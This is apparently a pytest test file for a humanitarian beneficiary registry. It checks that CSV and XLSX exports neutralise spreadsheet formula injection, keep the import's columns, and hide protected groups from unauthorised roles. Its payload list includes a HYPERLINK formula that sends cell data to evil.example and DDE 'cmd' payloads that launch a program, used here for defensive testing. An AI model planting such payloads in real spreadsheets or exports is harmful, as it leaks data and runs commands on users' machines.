"""Exports: nothing a spreadsheet would run, and the import's own columns, so they import again."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tandir.core.models import AccessLog, TargetGroup
from tandir.orgs.models import Branch, Locality, Organization, OrganizationKind, Project, Role
from tandir.registry import exports
from tandir.registry.imports import COLUMNS, import_beneficiaries
from tandir.registry.models import Beneficiary
from tandir.registry.queries import beneficiaries_in_scope
from tests.factories import World, make_user, register

# Values a spreadsheet would run as a formula or make a link of, as OWASP lists their starts.
RUNNABLE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["http://evil.example/a", "Anna;=1+1", "1990"]


def export_bytes(user: object, file_format: str) -> bytes:
    response = exports.beneficiaries_response(user, beneficiaries_in_scope(user), file_format)
    assert response.status_code == 200
    return response.content


def people_named(world: World, names: list[str]) -> list[Beneficiary]:
    """Registered through the form, then named as any channel (API, admin, an old import) may."""
    people = []
    for n, name in enumerate(names):
        person = register(world, phone=f"+3749100{n:04d}", national_id=f"AN{n:07d}")
        Beneficiary.objects.filter(pk=person.pk).update(first_name=name)
        people.append(person)
    return people


def xlsx_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [["" if c is None else c for c in row] for row in sheet.iter_rows(values_only=True)]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- Nothing runs -------------------------------------------------------------------------------


def test_xlsx_export_writes_every_cell_as_text(world: World) -> None:
    people_named(world, RUNNABLE + HARMLESS)
    content = export_bytes(world.manager_a, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<hyperlink" not in sheet_xml
        assert not [n for n in archive.namelist() if n.endswith(".rels") and "worksheets" in n]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s"}
    first_names = [row[1] for row in xlsx_rows(content)[1:]]
    # XlsxWriter writes a carriage return as OOXML's escape _x000D_, which Excel reads back as
    # the character and openpyxl leaves as it is.
    assert first_names == [name.replace("\r", "_x000D_") for name in RUNNABLE + HARMLESS]
    assert xlsx_rows(content)[1][COLUMNS.index("date_of_birth") + 1] == "1990-04-12"


def test_csv_export_guards_each_value_a_spreadsheet_would_run(world: World) -> None:
    people_named(world, RUNNABLE + HARMLESS)
    rows = csv_rows(export_bytes(world.manager_a, "csv"))
    assert [row[1] for row in rows[1:]] == ["'" + name for name in RUNNABLE] + HARMLESS
    assert {row[COLUMNS.index("phone") + 1][:5] for row in rows[1:]} == {"'+374"}


def test_csv_export_quotes_every_cell(world: World) -> None:
    people_named(world, HARMLESS)
    text = export_bytes(world.manager_a, "csv").decode("utf-8-sig")
    assert text.startswith('"id","first_name","patronymic","last_name","sex"')
    # A reader whose list separator is ";" still sees one cell, not a cell starting with "=".
    assert '"Anna;=1+1"' in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_puts_a_quote_before_each_formula_start(start: str) -> None:
    assert exports.csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_cell_leaves_other_values_alone() -> None:
    assert [exports.csv_cell(v) for v in ("Anna", "'=x", "", " =1")] == ["Anna", "'=x", "", " =1"]


# --- The import's columns -----------------------------------------------------------------------


def test_export_columns_are_the_import_columns_after_the_record_id(world: World) -> None:
    person = register(world)
    for file_format, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        header, row = read(export_bytes(world.manager_a, file_format))
        assert header == ["id", *COLUMNS]
        values = dict(zip(header, row, strict=True))
        assert values["id"] == str(person.pk)
        assert (values["sex"], values["branch"], values["district"]) == (
            "female",
            "A",
            "Shirak/Gyumri",
        )
        assert (values["household_income"], values["consent_surveys"]) == ("120000", "yes")


def test_export_hides_protected_groups_from_a_role_without_the_right_and_logs_once(
    world: World,
) -> None:
    trafficking = TargetGroup.objects.get(code="victim_of_trafficking")
    refugee = TargetGroup.objects.get(code="refugee")
    register(world, target_groups=[trafficking.pk, refugee.pk])
    groups = COLUMNS.index("target_groups") + 1
    assert csv_rows(export_bytes(world.loan_officer_a, "csv"))[1][groups] == "refugee"
    assert not AccessLog.objects.exists()
    assert csv_rows(export_bytes(world.manager_a, "csv"))[1][groups] == (
        "refugee;victim_of_trafficking"
    )
    assert AccessLog.objects.count() == 1


def varied_people(world: World) -> list[Beneficiary]:
    """People using every column, some with values a spreadsheet would run."""
    trafficking = TargetGroup.objects.get(code="victim_of_trafficking")
    refugee = TargetGroup.objects.get(code="refugee")
    ani = Locality.objects.create(district=world.district_a, name="Ani")
    officer = world.manager_a
    return [
        register(world, officer, locality=ani.pk),
        register(
            world,
            officer,
            first_name="Gohar",
            patronymic="Vardani",
            last_name="Hakobyan",
            date_of_birth="1979-11-02",
            phone="",
            id_document="passport",
            national_id="AT0075559",
            target_groups=[refugee.pk, trafficking.pk],
            education="higher",
            economic_activity="own_business",
            heard_via="referral",
            heard_via_detail="=cousin said +1\r\nthen\tleft",
            projects=[],
            household_members=1,
            household_dependants=0,
            household_head_sex="male",
            household_income="0",
            consent_surveys="",
            consent_sharing="on",
        ),
        register(
            world,
            officer,
            first_name="=HYPERLINK(A1)",
            last_name="@Sum",
            sex="male",
            date_of_birth="1988-01-30",
            phone="+374 93 555123",
            national_id="",
            district=world.district_b.pk,
            household_income="",
            household_income_currency="",
        ),
        register(
            world,
            officer,
            first_name="-Aram",
            last_name="+Plus",
            date_of_birth="2001-06-15",
            phone="+374 94 777000",
            national_id="AN7770001",
        ),
    ]


def fresh_programme(world: World) -> Branch:
    """Another organisation with a branch coded A and a project SR1, as the export names them."""
    org = Organization.objects.create(
        name="Org Z", kind=OrganizationKind.MFI, country=world.org.country, currency="AMD"
    )
    branch = Branch.objects.create(organization=org, name="Branch Z", code="A")
    served = list(world.branch_a.districts.all())
    if served:
        branch.districts.add(*served, through_defaults={"organization_id": org.pk})
    Project.objects.create(
        organization=org,
        name="Self-reliance Z",
        code="SR1",
        budget_amount=Decimal("5000.00"),
        budget_currency="USD",
        starts_on=datetime.date(2026, 1, 1),
        ends_on=datetime.date(2028, 12, 31),
    )
    return branch


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_imports_into_another_organisation_with_nothing_lost(
    world: World, tmp_path: Path, file_format: str
) -> None:
    people = varied_people(world)
    exported = export_bytes(world.manager_a, file_format)
    branch = fresh_programme(world)
    manager = make_user(branch.organization, Role.BRANCH_MANAGER, [branch], "manager_z")
    path = tmp_path / f"export.{file_format}"
    path.write_bytes(exported)

    result = import_beneficiaries(manager, path)

    assert [str(e) for e in result.errors] == []
    assert (result.created, result.ignored_columns) == (len(people), ["id"])
    read = csv_rows if file_format == "csv" else xlsx_rows
    before = [row[1:] for row in read(exported)[1:]]
    after = [row[1:] for row in read(export_bytes(manager, file_format))[1:]]
    assert after == before
    assert before[2][:3] == (
        ["'=HYPERLINK(A1)", "", "'@Sum"] if file_format == "csv" else ["=HYPERLINK(A1)", "", "@Sum"]
    )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_imported_into_its_own_organisation_finds_everyone_registered(
    world: World, tmp_path: Path, file_format: str
) -> None:
    people = varied_people(world)
    path = tmp_path / f"export.{file_format}"
    path.write_bytes(export_bytes(world.manager_a, file_format))

    result = import_beneficiaries(world.manager_a, path)

    assert [str(e) for e in result.errors] == []
    assert (result.created, result.already_registered) == (0, len(people))
    assert Beneficiary.objects.count() == len(people)
